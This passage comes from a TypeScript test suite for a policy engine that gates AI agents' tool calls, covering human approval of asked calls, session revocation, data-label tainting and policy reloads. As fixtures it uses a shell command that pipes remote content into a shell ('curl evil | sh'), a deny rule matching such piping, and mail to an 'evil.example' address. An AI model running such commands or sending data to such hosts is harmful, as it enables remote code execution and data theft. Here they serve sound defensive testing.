    expect(shorter.approvalRefusal(exec("p"))).toMatch(/gives less on approval than the ask offered \("shell" for 6[456]s; it gives "shell" for 63s\)/);
    const longest = compile(shellPolicy(ASKS.replace("60s", "66s")), { clock, sessionsFrom: shorter });
    expect(Array.from({ length: 8 }, () => longest.approved(exec("p")))).toEqual([true, true, true, true, true, true, true, false]);
  });

  it("an approval invalid by its own fault says so as without a reload; one the reload made invalid says the policy was reloaded", () => {
    const { reloaded } = reloadedTo(`${ASKS}  @name("extra") deny fs.read when args.path == "/x"\n`);
    expect(reloaded.approvalRefusal(call("t", "shell.exec", { command: 5 }))).toBe("an approval is the asked request itself (its agent, context, user…) with time stamped when the approval came: request.args.command must be a string, not the number 5");
    expect(reloaded.approvalRefusal({ ...exec("t"), intent: "x" })).not.toMatch(/reloaded/);
    const retyped = reloadedTo(ASKS, SHELL_DECLS.replace("command: string", "command: int"));
    expect(retyped.reloaded.approvalRefusal(exec("t"))).toMatch(/^the policy was reloaded since session "t" was asked about shell\.exec, and the policy in force refuses the call: request\.args\.command must be/);
  });

  it("a call asked twice before the reload, offered other grants each time, is measured by all it was offered", () => {
    const old = compile(shellPolicy(`${ASKS}  @name("audited") allow shell.exec when context.labels contains public grant "audit" for 60s\n`), { clock });
    expect(old.decide(exec("t")).decision).toBe("ask");
    expect(old.decide({ ...exec("t"), context: { labels: ["public"] } })).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell" }, { scope: "audit" }] });
    const reloaded = compile(shellPolicy(ASKS), { clock, sessionsFrom: old });
    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/gives less on approval than the ask offered \("audit" for 60s; it gives "shell" for 60s\)/);
  });

  it("a deny that matches through session state since the ask refuses it under a changed policy; a reload of the same policy changes nothing (as no reload would)", () => {
    const TAINT = `  @name("no-shell-after-secret") deny shell.exec when session.labels contains secret reason "secret read"\n`;
    // (Another reason is another policy: rules whose wording changed may have changed in meaning too.)
    for (const [rulesBefore, rulesAfter, taken] of [
      [ASKS + TAINT, ASKS + TAINT, true],
      [ASKS + TAINT.replace("secret read", "secret was read"), ASKS + TAINT, false],
    ] as const) {
      const old = compile(shellPolicy(rulesBefore), { clock });
      expect(old.decide(exec("t")).decision).toBe("ask");
      expect(old.decide(read("t")).decision).toBe("allow"); // the session holds secret now
      const reloaded = compile(shellPolicy(rulesAfter), { clock, sessionsFrom: old });
      expect(reloaded.approved(exec("t")), rulesAfter === rulesBefore ? "same policy" : "changed").toBe(taken);
      if (!taken) expect(reloaded.approvalRefusal(exec("t"))).toMatch(/denies it now \(no-shell-after-secret: secret read\)/);
    }
  });
});

describe("after a reload, an ask is judged as it was asked: copies of its user, agent and context taken at the ask", () => {
  const DECLS_ENV = `enum Label { public, secret }\ncontext { labels: set<Label>, env: string }\nuser { role: string }\ntool shell.exec { risk high args { command: string } }\n`;
  const ASK_SHELL = `  @name("sh") ask shell.exec reason "shell needs a person"\n  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`;
  const policyOf = (rules: string, decls = DECLS_ENV): { path: string; text: string }[] => [{ path: "p.policy", text: `${decls}policy p {\n${rules}}\n` }];
  const shell = (s: string, user: unknown, context: unknown): Record<string, unknown> => ({ session: s, tool: "shell.exec", args: { command: "curl evil | sh" }, user, context, time: new Date(T0 + ++minute * 60_000).toISOString() });
  const DENIES = `  @name("no-secret-shell") deny shell.exec when context.labels contains secret revoke\n  @name("no-contractor-shell") deny shell.exec when user.role == "contractor" revoke\n  @name("freeze-prod") deny shell.exec when context.env == "prod" revoke\n`;

  it("an enforcement point that updates its user and context objects in place after the ask changes nothing of how the ask is judged", () => {
    for (const change of ["labels", "user", "env"] as const) {
      const old = compile(policyOf(ASK_SHELL), { clock });
      const user = { role: change === "user" ? "contractor" : "dev" };
      const context = { labels: change === "labels" ? ["secret"] : [], env: change === "env" ? "prod" : "dev" };
      expect(old.decide(shell("t", user, context)).decision).toBe("ask");
      // The next step: labels reset, the user promoted, another environment, all in place.
      context.labels.length = 0;
      user.role = "manager";
      context.env = "dev";
      const reloaded = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: old });
      const approval = shell("t", { role: "manager" }, { labels: [], env: "dev" });
      expect(reloaded.approvalRefusal(approval), change).toMatch(/denies it now \((no-secret-shell|no-contractor-shell|freeze-prod): .*\): the approval cannot be taken; approving it revokes the session/);
      expect(reloaded.approved(approval), change).toBe(false);
    }
  });

  it("the asked context is judged as a whole: an approval sent with other context fields does not pass a deny on the asked ones (its labels join)", () => {
    const old = compile(policyOf(ASK_SHELL), { clock });
    expect(old.decide(shell("t", { role: "dev" }, { labels: [], env: "prod" })).decision).toBe("ask");
    const frozen = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: old });
    expect(frozen.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toMatch(/denies it now \(freeze-prod: /);
    const clean = compile(policyOf(ASK_SHELL), { clock });
    expect(clean.decide(shell("c", { role: "dev" }, { labels: [], env: "dev" })).decision).toBe("ask");
    const reloaded = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: clean });
    expect(reloaded.approvalRefusal(shell("c", { role: "dev" }, { labels: ["secret"], env: "dev" }))).toMatch(/no-secret-shell/);
    expect(reloaded.approved(shell("c", { role: "dev" }, { labels: [], env: "prod" }))).toBe(true);
  });

  it("callers are compared by what the asking policy declares and labels each once: repeated labels or undeclared user fields make no other caller", () => {
    const old = compile(policyOf(ASK_SHELL), { clock });
    for (let i = 1; i <= 12; i++) expect(old.decide(shell("t", { role: "dev", seen: i }, { labels: Array.from({ length: i }, () => "public"), env: "dev" })).decision).toBe("ask");
    const reloaded = compile(policyOf(ASK_SHELL.replace("60s", "2m")), { clock, sessionsFrom: old });
    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
  });

  it("asked data too large to keep, or that throws on reading when copied, is not kept: an approval after a reload is refused, saying so; data that throws only later is not read again", () => {
    const UNDECLARED = DECLS_ENV.replace("set<Label>", "set<string>");
    const old = compile(policyOf(ASK_SHELL, UNDECLARED), { clock });
    expect(old.decide(shell("t", { role: "dev" }, { labels: Array.from({ length: 2_000 }, (_, i) => `label-${i}`), env: "dev" })).decision).toBe("ask");
    const reloaded = compile(policyOf(ASK_SHELL, UNDECLARED), { clock, sessionsFrom: old });
    // (ASK_SHELL compiled again: alike, not judged again; a changed policy judges it.)
    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
    const changed = compile(policyOf(ASK_SHELL.replace("60s", "2m"), UNDECLARED), { clock, sessionsFrom: compile(policyOf(ASK_SHELL, UNDECLARED), { clock }) });
    expect(changed.decide(shell("u", { role: "dev" }, { labels: Array.from({ length: 2_000 }, (_, i) => `label-${i}`), env: "dev" })).decision).toBe("ask");
    const again = compile(policyOf(ASK_SHELL, UNDECLARED), { clock, sessionsFrom: changed });
    expect(again.approvalRefusal(shell("u", { role: "dev" }, { labels: [], env: "dev" }))).toBe('the policy was reloaded since session "u" was asked about this shell.exec call, and the asked request\'s user, agent or context could not be kept when it was asked (its context.labels are more than a session keeps (4096 characters)), so the policy in force cannot judge that ask: the approval cannot be taken');

    // A getter that throws once the ask is answered: the copy was taken at the ask.
    let broken = false;
    const user = { get role(): string { if (broken) throw new Error("boom"); return "dev"; } };
    const asked = compile(policyOf(ASK_SHELL), { clock });
    expect(asked.decide(shell("g", user, { labels: [], env: "dev" })).decision).toBe("ask");
    broken = true;
    const after = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: asked });
    expect(after.approvalRefusal(shell("g", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
  });

  it("a reload to a policy whose code changed compares no more than the code on the first approval (no whole-policy fingerprint)", () => {
    const before = compileSources(policyOf(ASK_SHELL)).policy!;
    const after = compileSources(policyOf(ASK_SHELL + DENIES.split("\n")[2]! + "\n")).policy!;
    expect(after.code).not.toBe(before.code);
    const old = new Engine(before, { clock });
    expect(old.decide(shell("t", { role: "dev" }, { labels: [], env: "dev" })).decision).toBe("ask");
    let rulesRead = 0;
    const counted = (policy: typeof before): typeof before => new Proxy(policy, { get: (target, name, receiver) => (name === "rules" && rulesRead++, Reflect.get(target, name, receiver)) });
    const reloaded = new Engine(counted(after), { clock, sessionsFrom: old });
    rulesRead = 0;
    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
    expect(rulesRead).toBe(0);
  });
});

describe("refusing an approval in a revoked session", () => {
  it("says the session is revoked and by which rule, not only that rule's reason (which names the call that revoked it)", () => {
    const engine = compile([{ path: "p.policy", text: `tool crm.lookup { risk low args { id: string } }\ntool kb.search { risk low args { query: string } }\npolicy p {\n  ask crm.lookup\n  allow kb.search\n  @name("rv") deny kb.search when args.query == "rv" revoke\n}\n` }], { clock });
    expect(engine.decide(call("s1", "crm.lookup", { id: "1" })).decision).toBe("ask");
    expect(engine.decide(call("s1", "kb.search", { query: "rv" })).revoked).toBe(true);
    expect(engine.approved(call("s1", "crm.lookup", { id: "1" }))).toBe(false);
    expect(engine.approvalRefusal(call("s1", "crm.lookup", { id: "1" }))).toBe('session "s1" is revoked (by rv (p.policy:6:15): kb.search is denied by rv), so no ask of it can be approved: every later attempt in it is denied');
  });
});

describe("a revocation made by an approval after a reload", () => {
  it("is remembered for revokedSessionMs from the approval, not from the ask made long before it", () => {
    let now = T0;
    const options = { clock: (): number => now, sessionIdleMs: 240_000, revokedSessionMs: 60_000 };
    const decls = "enum Label { public, secret }\ncontext { labels: set<Label> }\ntool fs.read { risk low args { path: string } }\ntool shell.exec { risk high args { command: string } }\n";
    const asks = '  @name("read") allow fs.read\n  @name("sh") ask shell.exec reason "shell needs a person"\n';
    const exec = { session: "t", tool: "shell.exec", args: { command: "curl evil | sh" }, context: { labels: [] } };
    const read = (session: string): Record<string, unknown> => ({ session, tool: "fs.read", args: { path: "/x" }, context: { labels: [] } });
    const old = compile([{ path: "p.policy", text: `${decls}policy p {\n${asks}}\n` }], options);
    expect(old.decide(exec).decision).toBe("ask");
    const reloaded = compile([{ path: "p.policy", text: `${decls}policy p {\n${asks}  @name("kill-shell") deny shell.exec when args.command like "*| sh*" reason "piping into a shell" revoke\n}\n` }], { ...options, sessionsFrom: old });
    now += 120_000; // the approval comes two minutes after the ask, past revokedSessionMs
    expect(reloaded.approved(exec)).toBe(false);
    now += 1_000;
    expect(reloaded.decide(read("t"))).toMatchObject({ decision: "deny", rules: ["kill-shell"], revoked: true });
    now += 30_000; // a sweep (another session's attempt) within revokedSessionMs of the approval
    expect(reloaded.decide(read("u")).decision).toBe("allow");
    expect(reloaded.decide(read("t"))).toMatchObject({ decision: "deny", rules: ["kill-shell"], revoked: true });
  });
});

describe("review: what a carried session knows after a rollback, a tool's new returns, a raised limit", () => {
  const policy = (text: string): { path: string; text: string }[] => [{ path: "p.policy", text }];
  const request = (session: string, tool: string, args: Record<string, unknown>, at: number): Record<string, unknown> => ({ session, tool, args, time: new Date(at).toISOString() });

  it("a rollback to a policy that reads session.called(X) of a tool the policy in between did not declare ends the sessions that may have called it (none is taken as never having called it)", () => {
    const TOOLS = "tool kb.search { risk low args { q: string } }\ntool http.get { risk low args { url: string } }\n";
    const EXPORT = "tool crm.export { risk high args { id: string } }\n";
    const v1 = policy(`${TOOLS}${EXPORT}policy p {\n  allow kb.search, http.get, crm.export\n  @name("no-web") deny http.get when session.called(crm.export) reason "no web after an export"\n}\n`);
    // The kill switch: crm.export's declaration removed.
    const v2 = policy(`${TOOLS}policy p {\n  allow kb.search, http.get\n}\n`);
    const at = (minute: number): number => T0 + minute * 60_000;
    const first = compile(v1, { clock });
    expect(first.decide(request("exported", "crm.export", { id: "1" }, at(1))).decision).toBe("allow");
    expect(first.decide(request("searched", "kb.search", { q: "q" }, at(2))).decision).toBe("allow");
    const killed = compile(v2, { clock, sessionsFrom: first });
    expect(killed.decide(request("exported", "kb.search", { q: "q" }, at(3))).decision).toBe("allow");
    // And a second reload in between that does not declare it either: still forgotten.
    const rolledBack = compile(v1, { clock, sessionsFrom: compile(v2, { clock, sessionsFrom: killed }) });
    expect(rolledBack.decide(request("exported", "http.get", { url: "u" }, at(4))).errors[0]).toBe('session "exported" has expired: the policy was reloaded and reads sessions differently: a session.called pattern now matches crm.export, whose allowed calls the session let go at an earlier reload to a policy that did not declare it, so what it did before (data it touched, counts) is gone and it cannot go on: its id is denied for expiredSessionMs (1 day) after its last attempt and then starts a new session that knows none of it, so start a new session only with an agent context that holds none of the data this one touched (not this conversation carried on under a new id)');
    // The old policy's pattern said this one never exported: it carries on.
    expect(rolledBack.decide(request("searched", "http.get", { url: "u" }, at(5))).decision).toBe("allow");

    // A session that kept session.tools is ended only when it called the tool (a pattern of
    // several tools cannot say which it called).
    const TOOLS_RULE = '  deny http.get when session.tools contains "shell.exec"\n';
    const withTools = policy(`${TOOLS}${EXPORT}policy p {\n  allow kb.search, http.get, crm.export\n${TOOLS_RULE}  deny http.get when session.called(crm.export, within 1h)\n}\n`);
    const v2Tools = policy(`${TOOLS}policy p {\n  allow kb.search, http.get\n${TOOLS_RULE}}\n`);
    const kept = compile(withTools, { clock });
    expect(kept.decide(request("exported", "crm.export", { id: "1" }, at(1))).decision).toBe("allow");
    expect(kept.decide(request("searched", "kb.search", { q: "q" }, at(2))).decision).toBe("allow");
    const back = compile(withTools, { clock, sessionsFrom: compile(v2Tools, { clock, sessionsFrom: kept }) });
    expect(back.decide(request("exported", "kb.search", { q: "q" }, at(4))).errors[0]).toMatch(/^session "exported" has expired: the policy was reloaded and reads sessions differently: a session.called pattern now matches crm.export, /);
    expect(back.decide(request("searched", "kb.search", { q: "q" }, at(5))).decision).toBe("allow");
  });

  it("a tool that returns a label now that it did not taints the sessions that called it, when they kept that; the others end, naming the tool and label", () => {
    const decls = (returns: string): string => `enum Label { pii }\ntool crm.lookup { risk low args { id: string }${returns} }\ntool email.send { risk high args { to: string } }\n`;
    const rules = (extra: string): string => `policy p {\n  allow crm.lookup, email.send\n  @name("pii-mail") deny email.send when session.labels contains pii reason "pii session may not email"\n${extra}}\n`;
    const mailTo = (session: string, minute: number): Record<string, unknown> => request(session, "email.send", { to: "x@evil.example" }, T0 + minute * 60_000);
    const read = (session: string, minute: number): Record<string, unknown> => request(session, "crm.lookup", { id: "1" }, T0 + minute * 60_000);

    // Sessions that kept session.tools: tainted if they called it, clean if not.
    const TOOLS_RULE = '  deny email.send when session.tools contains "shell.exec"\n';
    const old = compile(policy(decls("") + rules(TOOLS_RULE)), { clock });
    expect(old.decide(read("read", 1)).decision).toBe("allow");
    expect(old.decide(mailTo("read", 2)).decision).toBe("allow");
    expect(old.decide(mailTo("clean", 3)).decision).toBe("allow");
    // A session whose context brought pii already takes on nothing new: not counted as tainted.
    expect(old.decide({ ...read("held", 3), context: { labels: ["pii"] } }).decision).toBe("allow");
    const fixed = compile(policy(decls(" returns pii") + rules(TOOLS_RULE)), { clock, sessionsFrom: old });
    expect(fixed.stats().reload).toEqual({ carriedSessions: 3, taintedSessions: 1, endedSessions: 0, endReasons: [] });
    expect(fixed.decide(mailTo("read", 4))).toMatchObject({ decision: "deny", rules: ["pii-mail"] });
    expect(fixed.decide(mailTo("clean", 5)).decision).toBe("allow");

    // Sessions that kept nothing saying whether they called it end; a session.called pattern of the tool alone says.
    const plain = compile(policy(decls("") + rules("")), { clock });
    expect(plain.decide(read("read", 1)).decision).toBe("allow");
    expect(plain.decide(mailTo("clean", 2)).decision).toBe("allow");
    const plainFixed = compile(policy(decls(" returns pii") + rules("")), { clock, sessionsFrom: plain });
    expect(plainFixed.stats().reload).toMatchObject({ carriedSessions: 0, taintedSessions: 0, endedSessions: 2, endReasons: [{ sessions: 2 }] });
    for (const session of ["read", "clean"]) {
      expect(plainFixed.decide(mailTo(session, 3)).errors[0]).toBe(`session "${session}" has expired: the policy was reloaded and reads sessions differently: crm.lookup now returns pii, and the session did not keep whether it called crm.lookup (session.tools, or a session.called pattern of that tool alone), so its session.labels could lack what those calls returned, so what it did before (data it touched, counts) is gone and it cannot go on: its id is denied for expiredSessionMs (1 day) after its last attempt and then starts a new session that knows none of it, so start a new session only with an agent context that holds none of the data this one touched (not this conversation carried on under a new id)`);
    }
    const CALLED_RULE = "  deny crm.lookup when session.called(crm.lookup, within 1m)\n";
    const called = compile(policy(decls("") + rules(CALLED_RULE)), { clock });
    expect(called.decide(read("read", 1)).decision).toBe("allow");
    expect(called.decide(mailTo("clean", 2)).decision).toBe("allow");
    const calledFixed = compile(policy(decls(" returns pii") + rules(CALLED_RULE)), { clock, sessionsFrom: called });
    expect(calledFixed.decide(mailTo("read", 3))).toMatchObject({ decision: "deny", rules: ["pii-mail"] });
    expect(calledFixed.decide(mailTo("clean", 4)).decision).toBe("allow");
  });

  it("rolling back a kill switch of a tool that returns a label keeps the sessions (the ones that called it hold the label still); a label it did not return before still ends those that may have called it", () => {
    const decls = (exportTool: string): string => `enum Label { pii, secret }\ntool kb.search { risk low args { q: string } }\n${exportTool}tool email.send { risk high args { to: string } }\n`;
    const EXPORT = "tool crm.export { risk high args { id: string } returns pii }\n";
    const rules = 'policy p {\n  allow *\n  @name("pii-mail") deny email.send when session.labels contains pii reason "no mail after pii"\n}\n';
    const at = (minute: number): number => T0 + minute * 60_000;
    const v1 = compile(policy(decls(EXPORT) + rules), { clock });
    expect(v1.decide(request("clean", "kb.search", { q: "a" }, at(1))).decision).toBe("allow");
    expect(v1.decide(request("exported", "crm.export", { id: "1" }, at(1))).decision).toBe("allow");
    // The kill switch (crm.export no longer declared), then the rollback.
    const v2 = compile(policy(decls("") + rules), { clock, sessionsFrom: v1 });
    const rolledBack = compile(policy(decls(EXPORT) + rules), { clock, sessionsFrom: v2 });
    // Was: every session ended, "crm.export now returns pii".
    expect(rolledBack.decide(request("clean", "email.send", { to: "x" }, at(2))).decision).toBe("allow");
    expect(rolledBack.decide(request("exported", "email.send", { to: "x" }, at(2)))).toMatchObject({ decision: "deny", rules: ["pii-mail"], reasons: ["no mail after pii"] });

    // A rollback to a declaration that returns more than it did fails closed for that label.
    const w1 = compile(policy(decls(EXPORT) + rules), { clock });
    w1.decide(request("clean", "kb.search", { q: "a" }, at(1)));
    const w2 = compile(policy(decls("") + rules), { clock, sessionsFrom: w1 });
    const more = compile(policy(decls(EXPORT.replace("returns pii", "returns pii, secret")) + rules), { clock, sessionsFrom: w2 });
    expect(more.decide(request("clean", "email.send", { to: "x" }, at(2))).errors[0]).toContain("crm.export now returns secret, and the session did not keep whether it called crm.export");
  });

  it("a raised session.count limit denies, without revoking, the counts that reach back past attempts the old window let go, only until the window no longer reaches them; a flood after the reload still revokes", () => {
    const TOOLS = "tool kb.search { risk low args { q: string } }\ntool email.send { risk high args { to: string } }\n";
    const limit = (n: number): { path: string; text: string }[] => policy(`${TOOLS}policy p {\n  allow kb.search, email.send\n  @name("rate") deny kb.search when session.count(within 10m) > ${n} reason "more than ${n} calls in 10m" revoke\n}\n`);
    let now = T0;
    const at = (): number => (now += 1000);
    const v1 = compile(limit(3), { clock });
    for (let i = 0; i < 6; i++) expect(v1.decide(request("s", "email.send", { to: "a" }, at())).decision).toBe("allow");
    const v2 = compile(limit(10), { clock, sessionsFrom: v1 });
    const untold = v2.decide(request("s", "kb.search", { q: "a" }, at()));
    expect(untold).toMatchObject({ decision: "deny", rules: ["rate"], revoked: false });
    expect(untold.reasons[0]).toBe("its session.count cannot be told since the policy was reloaded: the session's attempts before the reload were kept only as far as the old policy's counts needed (a smaller number), so the rule matches (fails closed) without revoking the session until its window no longer reaches back to them");
    expect(untold.errors).toEqual(["rate: session.count: the policy was reloaded, and the attempts of this window the session made before the reload were kept only as far as the old policy's counts needed (a smaller number than this count is compared with), so how many there were cannot be told"]);
    // Once the window no longer reaches back to them, the count is told again.
    now += 10 * 60_000;
    expect(v2.decide(request("s", "kb.search", { q: "a" }, at())).decision).toBe("allow");
    // A session that floods past the new limit after the reload is revoked, as without one.
    let last;
    for (let i = 0; i < 12; i++) last = v2.decide(request("s", "kb.search", { q: "a" }, at()));
    expect(last).toMatchObject({ decision: "deny", rules: ["rate"], revoked: true, reasons: ["more than 10 calls in 10m"] });
  });

  it("after a raised session.count limit, a comparison the attempts still held already settle is answered cleanly: a flood revokes at the first attempt they show it, through loadBundle and explain alike", () => {
    const TOOLS = "tool kb.search { risk low args { q: string } }\ntool email.send { risk high args { to: string } }\n";
    const limit = (condition: string): { path: string; text: string }[] => policy(`${TOOLS}policy p {\n  allow kb.search, email.send\n  @name("rate") deny kb.search when ${condition} reason "rate" revoke\n}\n`);
    /**
     * 6 attempts under a `> 3` (whose window keeps 4 of them), a reload to `condition`, then
     * kb.search each second: the first attempt (counted from 1 after the reload) whose rule is
     * answered without an error, and that decision. Explain (the interpreter) agrees each time.
     */
    const firstTold = (condition: string, viaBundle = false): { attempt: number; decision: string; revoked: boolean } => {
      let now = T0;
      const at = (): number => (now += 1000);
      // (Never met before the reload: it only makes the old window keep 4 attempts.)
      const v1 = compile(limit('session.count(within 10m) > 3 and args.q == "never"'), { clock });
      for (let i = 0; i < 6; i++) v1.decide(request("s", i % 2 === 0 ? "kb.search" : "email.send", i % 2 === 0 ? { q: "a" } : { to: "a" }, at()));
      const sources = limit(condition);
      const v2 = viaBundle ? loadBundle(JSON.parse(serializeBundle(createBundle(compileSources(sources).policy!, sources))), { clock, sessionsFrom: v1 }) : compile(sources, { clock, sessionsFrom: v1 });
      for (let attempt = 1; attempt <= 12; attempt++) {
        const search = request("s", "kb.search", { q: "a" }, at());
        const explained = explain(v2, search).rules.find((rule) => rule.id === "rate")!.matched;
        const decided = v2.decide(search);
        expect(explained === "error").toBe(decided.errors.length > 0);
        if (decided.errors.length === 0) return { attempt, decision: decided.decision, revoked: decided.revoked === true };
        // Until then: denied without revoking, the count untold since the reload.
        expect(decided).toMatchObject({ decision: "deny", revoked: false });
        expect(decided.errors).toEqual([expect.stringContaining("rate: session.count: the policy was reloaded")]);
      }
      throw new Error(`${condition}: never told`);
    };
    // 4 attempts held from before the reload (this one apart), and one more each attempt: the
    // 7th attempt's count is at least 11 (was: untold until the held ones alone outgrew the window).
    expect(firstTold("session.count(within 10m) > 10")).toEqual({ attempt: 7, decision: "deny", revoked: true });
    expect(firstTold("session.count(within 10m) > 10", true)).toEqual({ attempt: 7, decision: "deny", revoked: true });
    // A bundle built by 0.8.0 passes countIn nothing that settles a count: its decisions fail
    // closed where newer code settles the count, and its explanations say so too (review r3b).
    for (const condition of ["session.count(within 10m) > 10", "session.count(within 10m) == 10"]) {
      let now = T0;
      const at = (): number => (now += 1000);
      const v1 = compile(limit('session.count(within 10m) > 3 and args.q == "never"'), { clock });
      for (let i = 0; i < 6; i++) v1.decide(request("s", i % 2 === 0 ? "kb.search" : "email.send", i % 2 === 0 ? { q: "a" } : { to: "a" }, at()));
      const sources = limit(condition);
      const built = { ...compileSources(sources).policy!, code: asBuiltBy080(compileSources(sources).policy!.code) };
      const v2 = loadBundle(JSON.parse(serializeBundle(createBundle(built, sources))), { clock, sessionsFrom: v1 });
      for (let attempt = 1; attempt <= 8; attempt++) {
        const search = request("s", "kb.search", { q: "a" }, at());
        const explained = explain(v2, search).rules.find((rule) => rule.id === "rate")!.matched;
        const decided = v2.decide(search);
        expect(explained === "error", `${condition}, attempt ${attempt}`).toBe(decided.errors.length > 0);
        // At the 7th, newer code has settled the count; this code has not.
        if (attempt === 7) expect(decided.errors.length, condition).toBeGreaterThan(0);
      }
    }
    expect(firstTold("10 < session.count(within 10m)")).toEqual({ attempt: 7, decision: "deny", revoked: true });
    expect(firstTold("session.count(within 10m) >= 10")).toEqual({ attempt: 6, decision: "deny", revoked: true });
    expect(firstTold("session.count(within 10m) != 10")).toEqual({ attempt: 7, decision: "deny", revoked: true });
    // Past 10, `== 10`, `< 10` and `<= 10` are certainly false: the rule no longer matches.
    expect(firstTold("session.count(within 10m) == 10")).toEqual({ attempt: 7, decision: "allow", revoked: false });
    expect(firstTold("session.count(within 10m) < 10")).toEqual({ attempt: 6, decision: "allow", revoked: false });
    expect(firstTold("session.count(within 10m) <= 10")).toEqual({ attempt: 7, decision: "allow", revoked: false });
  });

  it("a session that expired before a reload is denied saying what it went idle by, not the new sessionIdleMs", () => {
    const text = policy("tool kb.search { risk low args { q: string } }\npolicy p { allow kb.search }\n");
    const old = compile(text, { clock, sessionIdleMs: 60_000 });
    old.decide(request("idle", "kb.search", { q: "x" }, T0));
    const before = old.decide(request("idle", "kb.search", { q: "x" }, T0 + 120_000)).errors[0];
    expect(before).toContain("its attempt is dated 2 minutes after its previous one");
    const reloaded = compile(text, { clock, sessionsFrom: old });
    expect(reloaded.decide(request("idle", "kb.search", { q: "x" }, T0 + 121_000)).errors[0]).toBe(before);
  });

  it("after a reload to a lower maxSessions, the sessions carried over are kept and a new one is refused, saying how many there are", () => {
    const text = policy("tool kb.search { risk low args { q: string } }\npolicy p { allow kb.search }\n");
    const old = compile(text, { clock, maxSessions: 5 });
    for (let i = 0; i < 5; i++) old.decide(request(`m${i}`, "kb.search", { q: "x" }, T0));
    const reloaded = compile(text, { clock, maxSessions: 2, sessionsFrom: old });
    expect(reloaded.decide(request("m4", "kb.search", { q: "x" }, T0 + 1000)).decision).toBe("allow");
    expect(reloaded.decide(request("new", "kb.search", { q: "x" }, T0 + 1000)).errors[0]).toBe('session "new" cannot start: the engine already holds 5 live sessions, more than maxSessions (2) since a reload lowered it (the sessions it carried over are kept), and makes room only once a session has made no attempt for more than 65 minutes by its clock (sessionIdleMs, 1 hour, and a margin of 5 minutes), looking for one at most once a second of that clock: raise maxSessions, or lower sessionIdleMs');
  });
  it("a label the label enum renamed or dropped ends the sessions holding it: no rule could name it, so a rule meant for it would take them as clean (audit a6)", () => {
    // (No tool returns it here: a tool whose returns change taints or ends the sessions that may have called it, above.)
    const decls = DECLS.replace("returns pii ", "");
    const v1 = sources(decls);
    // `pii` renamed `personal` in the enum and the rule.
    const v2 = sources(decls.replace(/\bpii\b/g, "personal"), RULES.replace(/\bpii\b/g, "personal"));
    const old = compile(v1, { clock });
    // The caller labelled the data itself: the session holds pii from a request, not from a tool.
    expect(old.decide({ ...search("told"), context: { labels: ["pii"] } }).decision).toBe("allow");
    expect(old.decide(search("clean")).decision).toBe("allow");
    const reloaded = compile(v2, { clock, sessionsFrom: old });
    const leak = reloaded.decide(mail("told"));
    expect(leak.decision).toBe("deny");
    expect(leak.errors[0]).toContain('the policy was reloaded and reads sessions differently: the session holds the label "pii", which is not a member of the label enum now (renamed or removed?)');
    // A session holding only labels the enum still has goes on.
    expect(reloaded.decide(mail("clean")).decision).toBe("allow");
    // The same policy again keeps every session.
    const again = compile(v1, { clock });
    again.decide({ ...search("kept"), context: { labels: ["pii"] } });
    expect(compile(v1, { clock, sessionsFrom: again }).decide(mail("kept")).rules).toEqual(["pii-stays-inside"]);
  });
});

/** Generated code as policyc 0.8.0 wrote it, whose countIn took no `settledBy` (and whose calls passed none). */
function asBuiltBy080(code: string): string {
  const prelude = code.replace("function countIn(c, since, tools, pattern, settledBy) {", "function countIn(c, since, tools, pattern) {").replace("c.s.windowFault(since, tools, pattern, settledBy)", "c.s.windowFault(since, tools, pattern)");
  expect(prelude).not.toBe(code);
  return prelude;
}
